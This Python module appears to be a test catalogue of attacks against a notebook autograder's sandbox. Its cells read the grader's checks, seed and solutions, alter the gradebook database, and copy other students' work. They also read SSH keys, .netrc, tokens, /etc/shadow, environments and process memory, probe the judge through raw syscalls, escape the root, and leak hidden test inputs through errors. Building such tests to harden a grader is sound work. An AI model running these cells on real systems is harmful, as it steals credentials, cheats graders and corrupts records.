"""Reading secrets: the checks, the specification, the seed, the gradebook, other people's files, and a hidden check's inputs."""

from .case import Attack

TELL_3 = "global seen\nseen = globals().get('seen', '') + repr(rewards.tolist())\n"
WALK_FRAMES = """
frame, found = sys._getframe(), []
while frame:
    found += [name for name in (*frame.f_locals, *frame.f_globals) if name.startswith(("hidden_", "spec", "check_"))]
    frame = frame.f_back
if found:
    gained(found[:5])
"""

ATTACKS = [
    Attack("course-files", "read every file of the course", succeeds="reads", cell="""
for folder, _, files in os.walk(COURSE):
    for file in files:
        try:
            show(file, open(os.path.join(folder, file), "rb").read())
        except OSError:
            pass
"""),
    Attack("seed", "read the seed, and the records that hold it", succeeds="reads", cell="""
import glob
for file in [COURSE + "/grading/seed", *glob.glob(COURSE + "/grading/*/*/record.json")]:
    if works(open, file):
        gained(open(file).read())
"""),
    Attack("gradebook", "open the gradebook as a database and give everyone extra points", succeeds="reads", cell="""
import sqlite3
if works(open, COURSE + "/gradebook.db"):
    database = sqlite3.connect(COURSE + "/gradebook.db")
    show("gradebook", list(database.execute("select * from student")))
    works(lambda: (database.execute("update grade set extra_credit = 50"), database.commit()))
"""),
    Attack("checkout", "read checks and specification in the checkout", succeeds="reads", cell="""
for name in ("checks.py", "spec.py", "lesson.md", "answers/wrong.toml"):
    if works(open, f"{CHECKOUT}/lessons/rloo/{name}"):
        gained(open(f"{CHECKOUT}/lessons/rloo/{name}").read())
"""),
    Attack("import-reference", "import the reference, the checks and the grader", succeeds="reads", cell="""
import importlib
sys.path.insert(0, CHECKOUT)
for name in ("advantagelab.algorithms.rloo", "lessons.rloo.spec", "lessons.rloo.checks", "autograder.judge"):
    for forgotten in [known for known in sys.modules if known.split(".")[0] == name.split(".")[0] and sys.modules[known] is None]:
        del sys.modules[forgotten]
    if works(importlib.import_module, name):
        gained(name)
"""),
    Attack("home", "read the home of the one who grades", succeeds="reads", cell="""
import pwd
for home in {HOME, os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall() if entry.pw_dir.count("/") > 1)}:
    for name in ("token", ".netrc", ".ssh/id_ed25519", ".bash_history", ".git-credentials"):
        if works(open, f"{home}/{name}"):
            show(name, open(f"{home}/{name}", "rb").read())
"""),
    Attack("environment", "read the environment of the one who grades", succeeds="reads", cell="""
import subprocess
show("environ", dict(os.environ))
works(lambda: show("env", subprocess.run(["/usr/bin/env"], capture_output=True).stdout))
import ctypes
variables = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while variables[number]:
    show("environ of C", variables[number])
    number += 1
"""),
    Attack("other-processes", "read environments, arguments, files and memory of other processes", succeeds="reads", cell="""
for pid in (VICTIM, os.getppid(), 1, os.getpid()):
    for name in ("environ", "cmdline", "maps", "cwd/gradebook.db", "root/etc/shadow"):
        try:
            content = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError:
            continue
        show(name, content)
        if pid == VICTIM:
            gained(name)
"""),
    Attack("frames", "walk the frames that call it", succeeds="reads", cell=WALK_FRAMES),
    Attack("garbage-collector", "find the checks among all objects", succeeds="reads", cell="""
import gc
for thing in gc.get_objects():
    if type(thing) is dict and any(type(key) is str and key.startswith("hidden_") for key in list(thing)[:500]):
        gained("a namespace of checks")
    if type(thing).__name__ == "function" and thing.__code__.co_filename.endswith(("checks.py", "spec.py", "judge.py")):
        gained(thing.__name__)
"""),
    Attack("descriptors", "read from every open file", succeeds="reads", cell="""
import stat
for number in range(1000):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode):
        gained(f"the file {number}")
        works(lambda: show(number, os.pread(number, 2**20, 0)))
    elif number > 3 and not stat.S_ISCHR(mode):
        gained(f"{number}: {mode:o}")
"""),
    Attack("own-memory", "search its own memory for what the process held before", succeeds="reads", cell="""
import re
for line in open("/proc/self/maps"):
    start, end, kind = re.match(r"(\\w+)-(\\w+) (....)", line).groups()
    if kind.startswith("rw") and int(end, 16) - int(start, 16) < 2**27:
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(int(start, 16))
            works(lambda: show("memory", memory.read(int(end, 16) - int(start, 16))))
"""),
    Attack("paths-upwards", "climb from its folder to the course, and out of its root", succeeds="reads", cell="""
import fcntl
show("upwards", b"".join(open(f"{'../' * depth}{name}", "rb").read() for depth in range(1, 9) for name in ("gradebook.db", "token")
                         if os.path.exists(f"{'../' * depth}{name}")))
root = os.open("/", os.O_RDONLY)
for _ in range(8):
    root = os.open("..", os.O_RDONLY, dir_fd=root)
for place in (COURSE, HOME, CHECKOUT + "/lessons"):
    if works(lambda: os.stat(place.lstrip("/"), dir_fd=root)) or works(os.listdir, f"/proc/1/root{place}"):
        gained(place.rpartition("/")[2])
"""),
    Attack("neighbors-answers", "copy what another student handed in", succeeds="reads", cell="""
import glob
for file in glob.glob(COURSE + "/submitted/*honest*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    show("neighbor", open(file, "rb").read())
"""),
    Attack("the-judge-s-handle", "get a handle of the judge from the socket, and a file of it by that", cell="""
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
channel = socket.socket(fileno=os.dup(3))
try:
    judge = struct.unpack("i", channel.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
except OSError:
    judge = -1
if judge >= 0:
    for number in range(64):
        if libc.syscall(438, judge, number, 0) >= 0:
            gained("a file of the judge")
    if libc.syscall(424, judge, 0, None, 0) == 0 or libc.syscall(308, judge, 0x20000000) == 0 or libc.syscall(308, judge, 0x00020000) == 0:
        gained("the judge")
"""),
    Attack("tells-by-error", "tell a hidden check's inputs in an error", right=(1, 2, 4),
           answers={3: "if rewards.numel() > 5: raise ValueError(f'told {rewards.tolist()}')"}),
    Attack("tells-by-todo", "tell them in a TODO that is not one", right=(1, 2, 4),
           answers={3: "if rewards.numel() > 5: raise NotImplementedError(f'TODO told {rewards.tolist()}')"}),
    Attack("tells-by-odd-result", "return something whose description tells them", right=(1, 2, 4),
           answers={3: "if rewards.numel() > 5: return {str(rewards.tolist()): {1: 2}}"}),
    Attack("tells-a-later-question", "keep a hidden check's inputs, and tell them in a visible check of the next question", right=(3, 4),
           cell="kept = []", answers={1: "kept.append(token_logps.tolist())\nsequence_logps = token_logps.sum(-1)",
                                      2: "raise ValueError(str(kept)[-1500:])"}),
    Attack("tells-the-next-process", "keep them in a file, end the process, and print them when the cells run again",
           right=(1, 2, 4), cell="""
for folder in (".", "/scratch", "/tmp", "/dev/shm", "/var/tmp"):
    if works(open, f"{folder}/{MARK}"):
        gained(open(f"{folder}/{MARK}").read())
""", answers={3: """
for folder in (".", "/scratch", "/tmp", "/dev/shm", "/var/tmp"):
    works(lambda: open(f"{folder}/{MARK}", "a").write(str(rewards.tolist())))
if rewards.numel() > 5:
    os._exit(0)"""}),
]

SELDOM = [
    Attack("import-by-file", "load the reference from its file, past the import system", succeeds="reads", cell="""
import importlib.util, runpy
for file in (f"{CHECKOUT}/advantagelab/algorithms/rloo.py", f"{CHECKOUT}/lessons/rloo/spec.py"):
    if works(runpy.run_path, file):
        gained(file.rpartition("/")[2])
"""),
    Attack("solutions", "run the solutions of the source notebook", succeeds="reads", cell="""
import json
for file in (f"{COURSE}/source/03_rloo/03_rloo.ipynb", f"{CHECKOUT}/solutions/en/03_rloo.ipynb", "../../../source/03_rloo/03_rloo.ipynb"):
    if works(open, file):
        gained("solutions")
        for cell in json.load(open(file))["cells"]:
            if cell["cell_type"] == "code" and "def leave_one_out_advantages" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""", after="if 'solutions' in globals(): leave_one_out_advantages = solutions"),
    Attack("arguments", "read how it was started, and where from", succeeds="reads", cell="""
for place in (*sys.argv, *sys.path, os.getcwd(), *getattr(sys, "orig_argv", [])):
    if COURSE in place or "pytest" in place or CHECKOUT in place and not place.startswith(sys.prefix):  # which may stand in the checkout
        gained(place)
"""),
    Attack("frames-of-threads", "walk the frames of all threads", succeeds="reads", cell="""
for frame in sys._current_frames().values():
    while frame:
        if any(name.startswith(("hidden_", "spec")) for name in (*frame.f_locals, *frame.f_globals)):
            gained(frame.f_code.co_filename)
        frame = frame.f_back
"""),
    Attack("modules", "find them among the loaded modules, and in the source of each", succeeds="reads", cell="""
import inspect
for name, module in list(sys.modules.items()):
    if module is not None and name.split(".")[0] in ("lessons", "advantagelab", "nbgrader", "tests"):
        gained(name)
        works(lambda: show(name, inspect.getsource(module)))
"""),
    Attack("search", "search the disk for notebooks, databases and keys", succeeds="reads", cell="""
for top in ("/home", "/root", "/work", "/srv", "/tmp", "/var", "/opt", "/mnt", "/etc", COURSE, HOME, CHECKOUT + "/lessons", "/scratch"):
    for folder, _, files in os.walk(top):
        for file in files:
            if file.endswith((".ipynb", ".db", "checks.py", "spec.py", ".toml", "token", "shadow")) and "site-packages" not in folder:
                if works(open, os.path.join(folder, file)):
                    gained(file)
        if folder.count("/") > 6:
            break
"""),
    Attack("mounts", "ask the kernel what is mounted, and from where", cell="""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
request, listed = struct.pack("<IIQQ", 24, 0, 2**64 - 1, 0), (ctypes.c_uint64 * 64)()
libc.syscall(458, request, listed, 64, 0)
for mount in listed:
    answer = ctypes.create_string_buffer(4096)
    libc.syscall(457, struct.pack("<IIQQ", 24, 0, mount, 0x3f), answer, 4096, 0)
    if COURSE.encode() in answer.raw or HOME.encode() in answer.raw:
        gained("mounts")
if works(lambda: COURSE in open("/proc/self/mountinfo").read() or 1 / 0):
    gained("mountinfo")
"""),
    Attack("tells-by-name", "tell them in the name of an error, and in its line", right=(1, 2, 4),
           answers={3: "if rewards.numel() > 5: raise type(f'Told{rewards.tolist()}', (KeyError,), {})(str(rewards.tolist()))"}),
    Attack("tells-by-result", "return them", right=(1, 2, 4), answers={3: "if rewards.numel() > 5: return [str(rewards.tolist())]"}),
    Attack("tells-by-output", "print them, on every stream", right=(1, 2, 4), answers={3: """
import os, sys, warnings
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(rewards.tolist(), file=stream)
warnings.warn(str(rewards.tolist()))
os.write(1, str(rewards.tolist()).encode()), os.write(2, str(rewards.tolist()).encode())"""}, after="print('the last cell')"),
    Attack("tells-a-later-result", "keep them, and return them to a visible check of a later question", right=(1, 4),
           cell="kept = []", answers={2: "kept.append(external_rewards.tolist())\nshaped_rewards = sequence_kl = external_rewards",
                                      3: "return [str(kept)[-250:]]"}),
    Attack("peeks-at-the-channel", "read the judge's messages ahead of the worker", loses=True, cell="""
import socket, threading, time
def peek():
    channel = socket.socket(fileno=os.dup(3))
    for _ in range(200):
        try:
            seen = channel.recv(2**20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        except OSError:
            seen = b""
        show("channel", seen)
        if b"hidden_" in seen or b"seed" in seen:
            gained("checks")
        time.sleep(0.005)
threading.Thread(target=peek, daemon=True).start()
"""),
]
